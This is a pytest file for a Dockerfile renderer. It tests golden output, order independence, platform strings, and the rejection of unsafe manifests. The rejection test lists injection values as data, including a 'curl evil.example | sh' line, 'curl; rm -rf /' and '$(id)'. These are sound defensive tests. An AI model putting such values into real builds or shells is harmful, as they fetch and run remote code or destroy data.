"""The manifest -> Dockerfile renderer (builds/queue/dockerfile.py): golden files, determinism, and refusals."""

import json
import os
import random

import pytest

from builds.queue.dockerfile import RenderError, platforms, render_dockerfile
from honua import errors
from tests.conftest import PROJECT_ROOT

GOLDEN = PROJECT_ROOT / "tests" / "builds" / "golden"
CASES = sorted(path.stem for path in GOLDEN.glob("*.json"))


@pytest.mark.parametrize("name", CASES)
def test_each_manifest_renders_its_golden_dockerfile(name):
    """Each golden manifest renders exactly its .Dockerfile (HONUA_UPDATE_GOLDEN=1 rewrites them for review)."""
    rendered = render_dockerfile(json.loads((GOLDEN / f"{name}.json").read_text()))
    expected_path = GOLDEN / f"{name}.Dockerfile"
    if os.environ.get("HONUA_UPDATE_GOLDEN") == "1":
        expected_path.write_text(rendered)
    assert rendered == expected_path.read_text()


@pytest.mark.parametrize("name", CASES)
def test_rendering_ignores_key_and_list_order(name):
    """Shuffled keys and env give the same bytes (the manifest hash is the same); shuffled packages and ports give
    the same instructions (only the hash label differs, as arrays are ordered in the hash)."""
    manifest = json.loads((GOLDEN / f"{name}.json").read_text())
    rng = random.Random(name)
    shuffled = dict(rng.sample(list(manifest.items()), len(manifest)))
    shuffled["env"] = dict(rng.sample(list(manifest["env"].items()), len(manifest["env"])))
    assert render_dockerfile(shuffled) == render_dockerfile(manifest)
    for key in ("packages", "ports"):
        shuffled[key] = rng.sample(manifest[key], len(manifest[key]))

    def instructions(text):
        return [line for line in text.splitlines() if "manifest-hash" not in line]

    assert instructions(render_dockerfile(shuffled)) == instructions(render_dockerfile(manifest))


BASE = json.loads((GOLDEN / "debian-minimal.json").read_text())


@pytest.mark.parametrize(
    "change",
    [
        {"schema_version": 2},
        {"base_image": "python:3.12-slim\nRUN curl evil.example | sh"},
        {"base_image": "Python:3"},
        {"packages": ["curl; rm -rf /"]},
        {"packages": ["$(id)"]},
        {"env": {"lower": "x"}},
        {"env": {"A": "line\nRUN evil"}},
        {"ports": [0]},
        {"ports": ["80"]},
        {"language": {"name": "python", "version": "3.12 && evil"}},
    ],
)
def test_a_manifest_that_could_inject_or_is_not_v1_is_refused(change):
    """Anything that is not schema v1 or could add an instruction or a shell command raises RenderError (HN002)."""
    with pytest.raises(RenderError) as info:
        render_dockerfile({**BASE, **change})
    assert isinstance(info.value, errors.InvalidManifest) and info.value.code == "HN002"


def test_platforms_come_from_the_architectures():
    """The builder's --platform lists linux/<arch> for each architecture, sorted; amd64 when there are none."""
    assert platforms({"architectures": ["arm64", "amd64", "arm/v7"]}) == "linux/amd64,linux/arm/v7,linux/arm64"
    assert platforms({}) == "linux/amd64"
